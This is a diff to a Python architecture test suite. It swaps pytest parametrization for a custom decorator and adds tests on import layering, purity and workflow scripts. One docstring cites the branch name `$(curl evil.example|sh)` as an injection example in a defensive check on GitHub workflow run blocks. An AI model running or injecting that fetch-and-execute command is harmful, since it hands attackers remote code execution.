@@ -3,10 +3,9 @@
 import ast
 import re
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from functools import cache
 from pathlib import Path
-
-import pytest
 
 ROOT = Path(__file__).parent.parent
 APP = sorted((ROOT / "app").rglob("*.py"))
@@ -81,6 +80,7 @@ def of(*rooms: str) -> list[Path]:
     return [path for path in APP + ACTION if name_of(path).startswith(tuple(rooms))]
 
 
+@cache
 def tree_of(path: Path) -> ast.Module:
     return ast.parse(path.read_text(), filename=str(path))
 
@@ -101,8 +101,23 @@ def is_within(module: str, packages: tuple[str, ...]) -> bool:
     return any(module == package or module.startswith(f"{package}.") for package in packages)
 
 
-def parametrized(paths: list[Path]) -> pytest.MarkDecorator:
-    return pytest.mark.parametrize("path", paths, ids=[name_of(path) for path in paths])
+def each(paths: list[Path]) -> Callable[[Callable[[Path], None]], Callable[[], None]]:
+    """One test for all of them, which names those that fail: there are thousands."""
+
+    def decorate(check: Callable[[Path], None]) -> Callable[[], None]:
+        def test() -> None:
+            wrong = {}
+            for path in paths:
+                try:
+                    check(path)
+                except AssertionError as error:
+                    wrong[name_of(path)] = str(error)
+            assert not wrong
+
+        test.__name__, test.__doc__ = check.__name__, check.__doc__
+        return test
+
+    return decorate
 
 
 def test_there_is_code_to_look_at() -> None:
@@ -110,7 +125,7 @@ def test_there_is_code_to_look_at() -> None:
     assert len(ACTION) > 10
 
 
-@parametrized(of(*(f"{room}/" for room in FLOORS)))
+@each(of(*(f"{room}/" for room in FLOORS)))
 def test_imports_run_one_way(path: Path) -> None:
     [allowed] = [below for room, below in FLOORS.items() if name_of(path).startswith(f"{room}/")]
 
@@ -119,7 +134,7 @@ def test_imports_run_one_way(path: Path) -> None:
     assert {module for module in ours if not is_within(module, allowed)} <= {"app"}
 
 
-@parametrized(of("app/core/"))
+@each(of("app/core/"))
 def test_the_core_is_pure(path: Path) -> None:
     foreign = {module for module in imports_of(path) if not is_within(module, ("app",))}
     calls = {
@@ -132,14 +147,14 @@ def test_the_core_is_pure(path: Path) -> None:
     assert not calls & IMPURE_CALLS
 
 
-@parametrized(of("app/operations/"))
+@each(of("app/operations/"))
 def test_operations_know_no_technology(path: Path) -> None:
     roots = {module.partition(".")[0] for module in imports_of(path)}
 
     assert roots - sys.stdlib_module_names == roots & {"app"}
 
 
-@parametrized(APP)
+@each(APP)
 def test_a_third_party_package_stays_in_its_home(path: Path) -> None:
     roots = {module.partition(".")[0] for module in imports_of(path)}
 
@@ -148,19 +163,19 @@ def test_a_third_party_package_stays_in_its_home(path: Path) -> None:
     assert not strays
 
 
-@parametrized(APP)
+@each(APP)
 def test_the_service_never_imports_the_action_or_the_demo(path: Path) -> None:
     assert not [name for name in imports_of(path) if is_within(name, ("action", "demo", "tests"))]
 
 
-@parametrized(ACTION)
+@each(ACTION)
 def test_the_action_needs_nothing_but_python(path: Path) -> None:
     roots = {module.partition(".")[0] for module in imports_of(path)}
 
     assert roots <= sys.stdlib_module_names | {"action"}
 
 
-@parametrized(ACTION)
+@each(ACTION)
 def test_the_action_reads_as_python_3_9(path: Path) -> None:
     tree = ast.parse(path.read_text(), feature_version=(3, 9))
 
@@ -173,7 +188,7 @@ def test_the_action_reads_as_python_3_9(path: Path) -> None:
     assert not options & {"slots", "kw_only", "strict"}
 
 
-@parametrized([path for path in APP + ACTION if name_of(path) not in LATE_IMPORTERS])
+@each([path for path in APP + ACTION if name_of(path) not in LATE_IMPORTERS])
 def test_imports_stand_at_the_top(path: Path) -> None:
     functions = [
         node
@@ -189,7 +204,7 @@ def test_imports_stand_at_the_top(path: Path) -> None:
     ]
 
 
-@parametrized([path for path in APP + ACTION if name_of(path) not in ENVIRONMENT_READERS])
+@each([path for path in APP + ACTION if name_of(path) not in ENVIRONMENT_READERS])
 def test_the_environment_is_read_in_one_place(path: Path) -> None:
     names = {
         node.attr if isinstance(node, ast.Attribute) else node.id
@@ -203,7 +218,7 @@ def test_the_environment_is_read_in_one_place(path: Path) -> None:
     assert not reads
 
 
-@parametrized(APP + ACTION)
+@each(APP + ACTION)
 def test_a_module_stays_small_and_says_what_it_is(path: Path) -> None:
     text = path.read_text()
 
@@ -233,7 +248,7 @@ def test_run_blocks_are_found_in_both_forms() -> None:
     assert [block.split() for block in run_blocks(text)] == [["one"], ["|", "two", "three"]]
 
 
-@parametrized(WORKFLOWS)
+@each(WORKFLOWS)
 def test_no_expression_is_pasted_into_a_script(path: Path) -> None:
     """A branch may be called `$(curl evil.example|sh)`: expressions reach scripts as variables."""
     assert not [block for block in run_blocks(path.read_text()) if "${{" in block]
